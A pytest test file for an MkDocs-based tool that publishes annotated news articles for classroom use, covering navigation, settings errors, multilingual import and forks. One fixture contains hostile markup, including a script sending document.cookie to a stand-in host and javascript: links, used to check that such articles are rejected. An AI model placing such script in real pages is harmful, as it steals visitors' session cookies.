"""Making the site one's own, end to end in built sites: articles appear by themselves, an
article can wait for its notes, nothing that runs gets in, the settings say what is wrong, and a
fork without the samples builds strictly and passes the real-site checks."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from marginalia.cli import main as marginalia
from tests import realsite
from tests.conftest import FIXTURES, MKDOCS, ROOT, SUBPATH, TECHNIQUES, TOPICS, build_for, write_site

ARTICLE = """\
---
title: {title}
outlet: {outlet}
published: {date}
---

The talks went on without Moscow. The plant was shelled again.
"""
NOTES = """\
questions: [Who talks?]
notes:
  - id: without-moscow
    kind: framing
    quote: without Moscow
    note: Talks without one party.
    topics: [talks]
"""
NAV = "nav:\n  - Home: index.md\n  - Articles: articles/index.md\n"


def article(i: int, outlet: str = "Outlet") -> str:
    return ARTICLE.format(title=f"Article {i}", outlet=f"{outlet} {i % 5}", date=f"20{10 + i // 365:02}-01-01")


def nav_links(page: str) -> list[str]:
    nav = re.search(r'<nav class="md-nav md-nav--primary".*?</nav>\s*</div>\s*</div>\s*</div>', page, re.S).group(0)
    return re.findall(r'<a href="([^"]+)" class="md-nav__link', nav)


# --- a new article appears by itself ----------------------------------------------------------

@pytest.mark.parametrize("count", [1, 2])
def test_a_few_articles_are_each_listed_in_the_nav_and_on_the_index(site, count):
    built = site(articles={f"a{i}": article(i) for i in range(count)},
                 annotations={"a0.yml": NOTES, "topics.yml": TOPICS}, config=NAV)
    assert built.returncode == 0, built.output
    links = nav_links(built.page(""))
    assert [link for link in links if link.startswith("articles/a")] == [f"articles/a{i}/" for i in reversed(range(count))]
    index = built.page("articles")
    assert all(f'href="a{i}/"' in index for i in range(count))
    assert "1 framing, 0 sourcing, 0 claim" in index and ("not yet annotated" in index) == (count > 1)


def test_four_hundred_articles_keep_the_nav_small_and_are_reached_from_index_pages(site):
    built = site(articles={f"a{i:03}": article(i) for i in range(400)}, annotations={}, config=NAV)
    assert built.returncode == 0, built.output
    links = nav_links(built.page("articles/a123"))
    assert len(links) < 15, links
    assert not [link for link in links if re.search(r"/a\d{3}/$", link)], "no article is listed in the nav"
    assert {"../", "../by-outlet/", "../by-date/", "../by-topic/"} <= set(links)
    index = built.page("articles")
    assert len(re.findall(r'<li><a href="a\d{3}/"', index)) == 400
    by_outlet = built.page("articles/by-outlet")
    assert len(re.findall(r"<h2 ", by_outlet)) == 5 and len(re.findall(r'<li><a href="../a\d{3}/"', by_outlet)) == 400


def test_the_home_page_lists_the_newest_articles_and_links_to_all(site):
    home = "# Home\n\n<!-- marginalia:articles -->\n"
    built = site(articles={f"a{i}": article(i) for i in range(8)}, annotations={"topics.yml": TOPICS},
                 extra_docs={"index.md": home}, config="markdown_extensions: [tables]\n")
    page = built.page("")
    assert len(re.findall(r'<td><a href="articles/a\d/"', page)) == 5
    assert '<a href="articles/">All 8 articles</a>' in page and "(not yet annotated)" in page


def test_an_article_without_an_annotation_file_builds_and_is_not_yet_annotated(site):
    built = site(articles={"plain": article(1)}, annotations={})
    assert built.returncode == 0, built.output
    page = built.page("articles/plain")
    assert "mg-source" in page and " data-note=" not in page and 'class="mg-practice"' not in page
    assert "not yet annotated" in built.page("articles")
    assert not (built.site / "worksheets" / "plain.html").exists()


def test_topics_and_techniques_no_note_uses_are_left_out_not_errors(site):
    topics = TOPICS + "  unused:\n    title: Unused topic\n    description: Nobody uses this.\n"
    built = site(articles={"a": article(1)}, annotations={"a.yml": NOTES, "topics.yml": topics,
                                                          "techniques.yml": TECHNIQUES})
    assert built.returncode == 0, built.output
    assert not (built.site / "topics" / "unused").exists() and not (built.site / "topics" / "plant").exists()
    assert "Unused topic" not in built.page("topics") and "Peace talks" in built.page("topics")
    assert "Loaded language" not in built.page("glossary")


# --- no script from an article, ever ----------------------------------------------------------

SCRIPTED = """\
---
title: A page with things in it
outlet: Somewhere
---

A paragraph.

<script>document.location = "https://elsewhere.example/?" + document.cookie</script>

A paragraph with <a href="javascript:steal()">a link that runs code</a>.

<p onmouseover="steal()">Hover me.</p>

<iframe src="https://elsewhere.example/embed"></iframe>

An image from elsewhere: <img src="https://tracker.example/pixel.gif" alt="">

[Markdown link](javascript:alert(1))
"""


def test_an_article_file_with_script_is_rejected_with_file_line_what_and_a_hint(site):
    built = site(articles={"bad": SCRIPTED}, annotations={})
    assert built.returncode != 0 and "Traceback" not in built.output
    for line, what in ((8, "a <script> element"), (10, "a javascript: address in href= on <a>"),
                       (12, "an event handler attribute (onmouseover=…) on <p>"), (14, "a <iframe> element"),
                       (16, "<img src=…> loading https://tracker.example/pixel.gif from another site"),
                       (18, "a javascript: address in href= on <a>")):
        assert f"docs/articles/bad.md:{line}: the article contains {what}" in built.output, (line, what)
    assert "hint: an article is text: delete this from the file, or import the page again" in built.output
    assert not (built.site / "articles" / "bad" / "index.html").exists()


def test_the_same_markup_in_a_page_that_is_not_an_article_is_the_site_owners_business(site):
    built = site(articles={}, annotations={}, extra_docs={"about.md": "# About\n\n<p onclick=\"x()\">Hi</p>\n"})
    assert built.returncode == 0, built.output


# --- the site's identity ---------------------------------------------------------------------

def test_the_home_page_shows_the_sites_name_and_introduction(site):
    home = "# <!-- marginalia:site-name -->\n\n<!-- marginalia:introduction -->\n"
    config = "extra:\n  marginalia:\n    introduction: |\n      Readings for *Year 10*, by Ms Example.\n"
    built = site(articles={}, annotations={}, extra_docs={"index.md": home}, config=config)
    page = built.page("")
    assert '<h1 id="test">Test</h1>' in page and "<p>Readings for <em>Year 10</em>, by Ms Example.</p>" in page


@pytest.mark.parametrize("config, message", [
    ("extra:\n  marginalia:\n    introducton: Hi\n", "mkdocs.yml:10: unknown setting extra.marginalia.introducton\n"
                                                     "    hint: did you mean 'introduction'?"),
    ("extra:\n  marginalia: Hello\n", "extra.marginalia must be a mapping of settings"),
    ("copyrigth: Me\n", "Unrecognised configuration name: copyrigth\n    hint: did you mean 'copyright'?"),
])
def test_a_misspelt_setting_stops_the_build_with_a_hint(site, config, message):
    built = site(articles={}, annotations={}, config=config)
    assert built.returncode != 0 and message in built.output and "Traceback" not in built.output


def test_a_language_the_theme_does_not_have_stops_the_build_with_a_hint(tmp_path):
    write_site(tmp_path, {}, {})
    config = (tmp_path / "mkdocs.yml").read_text().replace("  font: false\n", "  font: false\n  language: fre\n")
    (tmp_path / "mkdocs.yml").write_text(config)
    built = subprocess.run([*MKDOCS, "build", "--strict"], cwd=tmp_path, capture_output=True, text=True,
                           env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert built.returncode != 0 and "Traceback" not in built.stderr
    assert "theme.language 'fre' is not a language the theme has\n    hint: did you mean 'fr'?" in built.stderr


# --- any language, any script ----------------------------------------------------------------

@pytest.mark.parametrize("page, slug, quote", [
    ("cyrillic-windows-1251.html", "damba", "более дешёвый вариант"),
    ("japanese.html", "bouchoutei", "より安価な遊歩道のかさ上げ案"),
])
def test_an_article_in_another_script_imports_and_its_notes_anchor(tmp_path, page, slug, quote):
    write_site(tmp_path, {}, {"topics.yml": TOPICS})
    assert marginalia(["import", str(FIXTURES / "pages" / page), "--slug", slug,
                       "--docs", str(tmp_path / "docs")]) == 0
    (tmp_path / "annotations" / f"{slug}.yml").write_text(
        f"questions: [Who decides?]\nnotes:\n  - id: cheaper\n    kind: framing\n    quote: {quote}\n"
        "    note: The cheaper option.\n    topics: [talks]\n", encoding="utf-8")
    built = subprocess.run([*MKDOCS, "build", "--strict"], cwd=tmp_path, capture_output=True, text=True,
                           env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert built.returncode == 0, built.stdout + built.stderr
    html = (tmp_path / "site" / "articles" / slug / "index.html").read_text(encoding="utf-8")
    assert 'id="note-cheaper"' in html and 'data-quote-for="cheaper"' in html
    assert re.search(r'<mark[^>]*data-quote-for="cheaper"[^>]*>' + re.escape(quote), html)


# --- a fork of one's own ----------------------------------------------------------------------

FORK_NOTES = FIXTURES / "notes" / "flood-wall.yml"  # notes on tests/fixtures/pages/news-site.html
FORK_TOPIC = FIXTURES / "notes" / "flood-defence-topic.yml"  # the topic they use, for annotations/topics.yml


def tracked_files() -> list[str]:
    listed = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=ROOT, capture_output=True,
                            text=True, check=True).stdout.split("\n")
    return [name for name in listed if name and (ROOT / name).is_file() and not name.startswith("tests/")]


@pytest.fixture(scope="module")
def fork(tmp_path_factory) -> Path:
    """A copy of the project, as a teacher's fork: the samples removed, one article imported."""
    root = tmp_path_factory.mktemp("fork") / "my-readings"
    for name in tracked_files():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(ROOT / name, root / name)
    slugs = realsite.article_files(root)
    assert marginalia(["remove", *(a.slug for a in slugs), "--root", str(root)]) == 0
    assert realsite.article_files(root) == []
    assert marginalia(["import", str(FIXTURES / "pages" / "news-site.html"), "--slug", "flood-wall",
                       "--docs", str(root / "docs")]) == 0
    with open(root / "annotations" / "topics.yml", "a", encoding="utf-8") as topics:
        topics.write(FORK_TOPIC.read_text(encoding="utf-8"))
    shutil.copy(FORK_NOTES, root / "annotations" / "flood-wall.yml")
    return root


@pytest.fixture(scope="module")
def fork_site(fork, tmp_path_factory) -> Path:
    return build_for(fork, tmp_path_factory.mktemp("fork-site") / "site", f"http://127.0.0.1:8000{SUBPATH}")


def test_the_fork_keeps_none_of_the_samples(fork):
    assert [a.slug for a in realsite.article_files(fork)] == ["flood-wall"]
    assert sorted(p.name for p in (fork / "sources").iterdir()) == ["flood-wall.html"]


@pytest.mark.parametrize("check", realsite.CHECKS, ids=lambda check: check.__name__.removeprefix("check_"))
def test_the_fork_builds_strictly_and_passes_the_real_site_checks(fork, fork_site, check):
    check(fork, fork_site)


def test_the_forks_teacher_guide_and_home_page_no_longer_talk_about_the_samples(fork_site):
    guide = (fork_site / "teacher-guide" / "index.html").read_text(encoding="utf-8")
    home = (fork_site / "index.html").read_text(encoding="utf-8")
    assert "Global Research" not in guide and "Atlantic Council" not in guide and "Peace Talks" not in home
    assert "Choose two annotated articles on the same story" in guide
    assert 'href="../worksheets/flood-wall.html"' in guide


def test_the_forks_notes_appear_with_their_worksheet_and_export(fork_site):
    page = (fork_site / "articles" / "flood-wall" / "index.html").read_text(encoding="utf-8")
    assert page.count('data-quote-for="') >= 3 and (fork_site / "exports" / "flood-wall.jsonld").is_file()
    assert (fork_site / "topics" / "flood-defence" / "index.html").is_file()
    assert not (fork_site / "topics" / "negotiations").exists(), "the samples' topics are left out"
